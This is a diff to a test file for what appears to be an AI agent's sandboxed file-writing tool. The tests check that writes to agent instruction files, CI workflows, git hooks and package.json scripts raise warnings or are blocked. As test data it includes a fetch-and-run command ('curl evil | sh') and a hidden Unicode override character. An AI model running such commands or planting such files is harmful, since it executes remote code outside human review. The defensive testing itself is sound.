@@ -97,7 +97,7 @@ describe('an existing file', () => {
       {
         tool: 'Write',
         risk: 'high',
-        warning: expect.stringContaining('notes.txt exists and will be overwritten.'),
+        warning: expect.stringMatching(/^Overwrites notes\.txt\. Git does not have what is there now/u),
         effects: [{ kind: 'write', path: 'notes.txt', risk: 'high', preview: diff.join('\n') }],
       },
     ]);
@@ -142,7 +142,8 @@ describe('an existing file', () => {
     expect(await write('notes.txt', 'mine\n')).toMatchObject(changedMeanwhile);
     expect(content('notes.txt')).toBe('changed while thinking\n');
     meanwhile = () => rmSync(inProject('notes.txt'));
-    expect(await write('notes.txt', 'mine\n')).toMatchObject(changedMeanwhile);
+    // Whoever was asked about once is not asked about again.
+    expect(await write('notes.txt', 'mine\n', { agent: 'bob' })).toMatchObject(changedMeanwhile);
     expect(existsSync(inProject('notes.txt'))).toBe(false);
   });
 
@@ -158,7 +159,7 @@ describe('an existing file', () => {
     put('large.txt', 'x\n'.repeat(1_000_000));
     put('image.png', Buffer.of(137, 0, 1, 2));
     await write('large.txt', 'small');
-    await write('image.png', 'text');
+    await write('image.png', 'text', { agent: 'bob' });
     expect(questions.map(({ effects }) => effects[0]?.preview)).toEqual([
       'What changes cannot be shown: 2000000 bytes before, 5 bytes after.',
       'What changes cannot be shown: 4 bytes before, 4 bytes after.',
@@ -271,5 +272,79 @@ test('the warning is in the language of the bench', async () => {
   desk.project.remove();
   open({ locale: 'zh-CN' });
   await write('notes.txt', 'x');
-  expect(questions[0]?.warning).toContain('notes.txt 已存在，将被覆盖。');
+  expect(questions[0]?.warning).toContain('将覆盖 notes.txt。当前内容不在 git 中，无法恢复。');
+});
+
+describe('a file that other programs execute or obey', () => {
+  test.each([
+    'AGENTS.md',
+    'packages/a/CLAUDE.md',
+    '.github/workflows/test.yml',
+    '.tool-versions',
+    'flake.nix',
+  ])('%s asks also when it is new, and says who obeys it', async (path) => {
+    expect(await write(path, 'all: evil\n')).toMatchObject({ output: { created: true } });
+    expect(questions).toMatchObject([
+      {
+        risk: 'high',
+        warning: expect.stringContaining(`${path} takes effect outside the sandbox.`),
+        effects: [{ preview: expect.stringContaining('+all: evil') }],
+      },
+    ]);
+  });
+
+  test('of a package, what it runs is shown before and after', async () => {
+    const described = (scripts: object, version: string): string => JSON.stringify({ version, scripts });
+    put('package.json', described({ build: 'tsc', test: 'vitest' }, '1.0.0'));
+    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.0'));
+    await write('package.json', described({ build: 'curl evil | sh', test: 'vitest', post: 'x' }, '1.0.1'));
+    expect(questions.map(({ warning }) => warning)).toEqual([
+      expect.stringContaining('scripts.build: "tsc" → "curl evil | sh"; scripts.post: (none) → "x".'),
+      expect.not.stringContaining('outside the sandbox'),
+    ]);
+  });
+
+  test.each(['Makefile', 'justfile', 'src/agents.ts', '.editorconfig', '.env', 'docs/claude.mdx'])(
+    '%s is ordinary, and asks nobody',
+    async (path) => {
+      expect(await write(path, 'x')).toMatchObject({ output: { created: true } });
+      expect(questions).toEqual([]);
+    },
+  );
+
+  test.each([
+    ['{"bin":{"a":"./a.js"}}', 'bin.a: (none) → "./a.js"'],
+    ['{"packageManager":"pnpm@9"}', 'packageManager: (none) → "pnpm@9"'],
+    ['{"scripts":{"preinstall":"x\u202E"}}', 'scripts.preinstall: (none) → "x\\u{202e}"'],
+    ['{"lint-staged":{"*.ts":"evil"}}', 'lint-staged.*.ts: (none) → "evil"'],
+    ['{"scripts":', 'package.json: (none) → {"scripts":'],
+  ])('of a new package %s is shown', async (described, shown) => {
+    await write('packages/a/package.json', described);
+    expect(questions.map(({ warning }) => warning)).toEqual([expect.stringContaining(shown)]);
+  });
+
+  test('of a new package that runs nothing, nobody is asked', async () => {
+    await write('packages/a/package.json', '{"name":"a","dependencies":{"b":"1"}}');
+    expect(questions).toEqual([]);
+  });
+
+  test('is refused without a person', async () => {
+    desk.project.remove();
+    desk = createFileBench({ agents });
+    expect(await write('AGENTS.md', 'obey')).toMatchObject({ status: 'blocked', station: 'approve' });
+    expect(existsSync(inProject('AGENTS.md'))).toBe(false);
+  });
+
+  test('that decides without being asked is refused whoever says yes', async () => {
+    for (const path of [
+      'node_modules/.bin/../../.husky/pre-commit',
+      '.HUSKY/pre-commit',
+      '.husky/pre-commit',
+      'a/lefthook.yml',
+      '.devcontainer/devcontainer.json',
+      '.zed/tasks.json',
+    ])
+      expect(await write(path, 'x')).toMatchObject({ status: 'blocked', errorCode: 'protected_path' });
+    expect(questions).toEqual([]);
+  });
 });
